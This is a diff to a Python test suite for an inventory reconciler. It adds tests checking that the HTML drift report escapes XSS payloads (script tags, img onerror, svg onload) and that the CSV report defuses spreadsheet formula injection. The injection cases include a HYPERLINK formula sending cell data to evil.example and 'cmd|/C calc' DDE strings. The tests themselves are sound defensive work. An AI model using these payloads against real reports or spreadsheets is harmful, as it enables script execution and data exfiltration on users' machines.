@@ -33,7 +33,7 @@ class Env:
                "stock": {"table": "public.inv", "sku": "sku", "warehouse": "wh", "quantity": quantity,
                          "locations": {"WH-MAD": "madrid"}},
                "sinks": [{"name": "shop", "kind": "webhook", "url": self.shop.endpoint,
-                          "timeout_seconds": 2}],
+                          "timeout_seconds": 2, "unsigned": True}],
                "outbox": {"path": str(self.tmp / "outbox.db"), "commit_interval_ms": 10},
                "ops": {"listen": "127.0.0.1:0"}}
         p = self.tmp / "erpsync.yaml"
@@ -232,3 +232,174 @@ def test_replica_identity_nothing_is_refused_by_the_erp_not_lost(env: Env) -> No
             env.sql("UPDATE inv SET qty = 1 WHERE sku='GOOD-1'")
         env.sql("INSERT INTO inv (sku, qty) VALUES ('AFTER', 3)")
         env.arrives({("AFTER", "madrid"): 3, ("GOOD-1", "madrid"): 5})
+
+
+# hostile values in the drift report (HTML + CSV) ---------------------------------------------------------
+def _drift_reports(tmp_path: Path, rows: list[tuple[Any, ...]],
+                   summaries: list[dict[str, Any]]) -> tuple[Path, Path]:
+    """The HTML and CSV reports of a drift table holding ``rows`` (sink, drift, sku, scope, erp, shop,
+    note), as the reconciler writes them."""
+    import duckdb
+
+    from reconciler.diff import DRIFT_TABLE
+    from reconciler.report import write_reports
+
+    con = duckdb.connect()
+    con.execute(DRIFT_TABLE)
+    con.executemany("INSERT INTO drift VALUES (?, ?, 'stock', ?, ?, ?, ?, NULL, NULL, ?, ?)",
+                    [(s, d, sku, scope, e, sh, abs((e or 0) - (sh or 0)), note)
+                     for s, d, sku, scope, e, sh, note in rows])
+    from datetime import datetime
+
+    trend = [{"run_id": 7, "at": datetime(2025, 1, 2, 6, 0), "total": len(rows)}]
+    return write_reports(con, tmp_path / "reports", summaries=summaries, trend=trend, run_id=7, max_items=100)
+
+
+PWN = "document.title='pwned';document.body.setAttribute('data-pwned','1')"
+HOSTILE_SKUS = ["<!--<script>", "</script>", f'"><img src=x onerror="{PWN}">', "</script><script>" + PWN +
+                "</script>", "SKU-&amp;-<b>bold</b>", "'-->]]></title></svg><svg onload=\"" + PWN + '">',
+                "NORMAL-1", "\u2028line\u2029sep</SCRIPT >", "<style>body{display:none}</style>", "NORMAL-2"]
+HOSTILE_SCOPE = f'madrid</text><script>{PWN}</script><text onclick="{PWN}">'
+HOSTILE_SINK = f'shop"><img src=x onerror="{PWN}">'
+HOSTILE_ERROR = f"HTTP 500: <!--<script>{PWN}</script>"
+
+
+class _DomReader:
+    """What a person sees in Chromium's DOM: the item rows' cells, every element, warnings, chart labels."""
+
+    def __init__(self, dom: str) -> None:
+        from html.parser import HTMLParser
+
+        self.rows: list[list[str]] = []
+        self.tags: list[tuple[str, dict[str, str | None]]] = []
+        self.warns: list[str] = []
+        self.svg_texts: list[str] = []
+        self.title = ""
+        self.in_rows: list[str] = []
+        stack: list[str] = []
+        outer = self
+
+        class P(HTMLParser):
+            def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
+                a = dict(attrs)
+                outer.tags.append((tag, a))
+                if "item" in stack:
+                    outer.in_rows.append(tag)
+                if tag == "tr" and a.get("class") == "item":
+                    outer.rows.append([])
+                if tag == "td" and "item" in stack:
+                    outer.rows[-1].append("")
+                if tag == "div" and a.get("class") == "warn":
+                    outer.warns.append("")
+                if tag == "text":
+                    outer.svg_texts.append("")
+                stack.append("item" if tag == "tr" and a.get("class") == "item" else
+                             "warn" if tag == "div" and a.get("class") == "warn" else tag)
+
+            def handle_endtag(self, tag: str) -> None:
+                while stack:
+                    top = stack.pop()
+                    if top == tag or (top == "item" and tag == "tr") or (top == "warn" and tag == "div"):
+                        break
+
+            def handle_data(self, data: str) -> None:
+                if "td" in stack and "item" in stack:
+                    outer.rows[-1][-1] += data
+                if "warn" in stack:
+                    outer.warns[-1] += data
+                if stack and stack[-1] == "text":
+                    outer.svg_texts[-1] += data
+                if stack and stack[-1] == "title" and "svg" not in stack:
+                    outer.title += data
+
+        p = P(convert_charrefs=True)
+        p.feed(dom)
+        p.close()
+
+
+def _chromium_dom(html: Path, tmp_path: Path) -> tuple[str, str]:
+    import shutil
+    import subprocess
+
+    chromium = shutil.which("chromium") or shutil.which("chromium-browser") or shutil.which("google-chrome")
+    if not chromium:
+        pytest.skip("chromium is not installed (apt-get install -y chromium) — cannot render the report")
+    r = subprocess.run([chromium, "--headless", "--no-sandbox", "--disable-gpu", "--disable-quic",
+                        "--no-first-run", "--disable-background-networking", "--disable-component-update",
+                        "--disable-sync", f"--user-data-dir={tmp_path / 'profile'}",
+                        "--enable-logging=stderr", "--v=0", "--dump-dom", html.as_uri()],
+                       capture_output=True, text=True, timeout=90, check=True)
+    return r.stdout, r.stderr
+
+
+def test_html_report_shows_every_row_of_hostile_skus_in_chromium(tmp_path: Path) -> None:
+    rows = [(HOSTILE_SINK if i == 2 else "shop", "stock_mismatch", sku, HOSTILE_SCOPE if i % 2 else "milan",
+             10 + i, i, f"note {i}: {sku}") for i, sku in enumerate(HOSTILE_SKUS)]
+    summaries = [{"sink": "shop", "erp_position": "0/1<!--", "erp_keys": 10, "shop_keys": 10,
+                  "drift_total": 9, "caught_up": True},
+                 {"sink": HOSTILE_SINK, "error": HOSTILE_ERROR, "heal_refused": HOSTILE_ERROR}]
+    html, _csv = _drift_reports(tmp_path, rows, summaries)
+    dom, log = _chromium_dom(html, tmp_path)
+    seen = _DomReader(dom)
+    # the script ran and built every row; each cell shows the value as text, verbatim
+    assert 'data-ready="10"' in dom and len(seen.rows) == 10, f"{len(seen.rows)} of 10 rows shown"
+    assert sorted(r[2] for r in seen.rows) == sorted(HOSTILE_SKUS)
+    assert {r[3] for r in seen.rows} == {HOSTILE_SCOPE, "milan"}
+    assert sorted(r[7] for r in seen.rows) == sorted(f"note {i}: {s}" for i, s in enumerate(HOSTILE_SKUS))
+    assert HOSTILE_SINK in {r[0] for r in seen.rows}
+    assert any(HOSTILE_SINK in w and HOSTILE_ERROR in w for w in seen.warns), seen.warns
+    assert HOSTILE_SCOPE in seen.svg_texts  # the chart's label is text, not markup
+    # no markup from the data became an element, nothing of it ran, no policy violation of our own
+    names = [t for t, _ in seen.tags]
+    assert [names.count(t) for t in ("img", "script", "svg", "style")] == [0, 3, 2, 1]
+    assert set(seen.in_rows) == {"td", "span"}  # a cell holds text (and the kind's tag), no markup
+    assert not [a for _, a in seen.tags if {"onerror", "onload", "onclick", "data-pwned"} & set(a)]
+    assert seen.title == "Drift report #7"
+    assert 'http-equiv="Content-Security-Policy"' in html.read_text()
+    assert "Content Security Policy" not in log, log
+
+
+def test_csv_report_neutralises_formulas_and_keeps_numbers(tmp_path: Path) -> None:
+    import csv
+    import email
+    import io
+
+    from reconciler.config import EmailConfig
+    from reconciler.mail import build_message
+
+    formulas = ['=HYPERLINK("http://evil.example/?d="&A1,"click")', "+cmd|' /C calc'!A0",
+                "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1",
+                "\uff1d1+1", "\uff0bcmd|' /C calc'!A0", "\uff0d2+3", "\uff20SUM(1)"]
+    rows = [("shop", "stock_mismatch", sku, formulas[(i + 1) % 10], -5 - i, 3 + i, formulas[(i + 2) % 10])
+            for i, sku in enumerate(formulas)]
+    rows += [("=shop", "not_in_erp", "PLAIN, \"quoted\"", "madrid", None, 7, None),
+             ("shop", "missing_in_shop", "PLAIN-2", "milan", 4, None, "fine")]
+    _html, csv_path = _drift_reports(tmp_path, rows, [{"sink": "shop", "drift_total": len(rows)}])
+    raw = csv_path.read_bytes().decode("utf-8")  # as written: a CR inside a cell stays a CR
+    parsed = list(csv.reader(io.StringIO(raw, newline="")))
+    header, body = parsed[0], parsed[1:]
+    assert header == ["sink", "drift", "kind", "sku", "location_or_price_list", "erp_value", "shop_value",
+                      "erp_currency", "shop_currency", "severity", "note"]
+    assert len(body) == len(rows)
+    numeric = {"erp_value", "shop_value", "severity"}
+    for line in body:
+        for name, cell in zip(header, line, strict=True):
+            if name in numeric:
+                assert cell == "" or isinstance(float(cell), float), (name, cell)  # a number, as it was
+            else:
+                assert not cell.startswith(("=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff0b", "\uff0d",
+                                            "\uff20")), (name, cell)
+    by_sku = {r[3]: r for r in body}
+    for i, f in enumerate(formulas):
+        r = by_sku["'" + f]  # the original value behind a single quote, nothing lost
+        assert r[4] == "'" + formulas[(i + 1) % 10] and r[10] == "'" + formulas[(i + 2) % 10]
+        assert float(r[5]) == -5 - i and float(r[6]) == 3 + i and not r[5].startswith(("'", '"'))
+        assert '"\'' + f.replace('"', '""') + '"' in raw  # the defused cell is quoted
+    assert by_sku['PLAIN, "quoted"'][0] == "'=shop" and by_sku["PLAIN-2"][10] == "fine"
+    assert float(by_sku["PLAIN-2"][5]) == 4 and by_sku["PLAIN-2"][6] == ""
+    # the e-mailed attachment is this same defused CSV
+    cfg = EmailConfig.model_validate({"to": ["merch@example.com"], "smtp_host": "127.0.0.1",
+                                      "starttls": False})
+    msg = email.message_from_bytes(build_message(cfg, "drift", "text", _html, csv_path).as_bytes())
+    [att] = [p for p in msg.walk() if p.get_filename() == csv_path.name]
+    assert att.get_payload(decode=True).decode() == raw
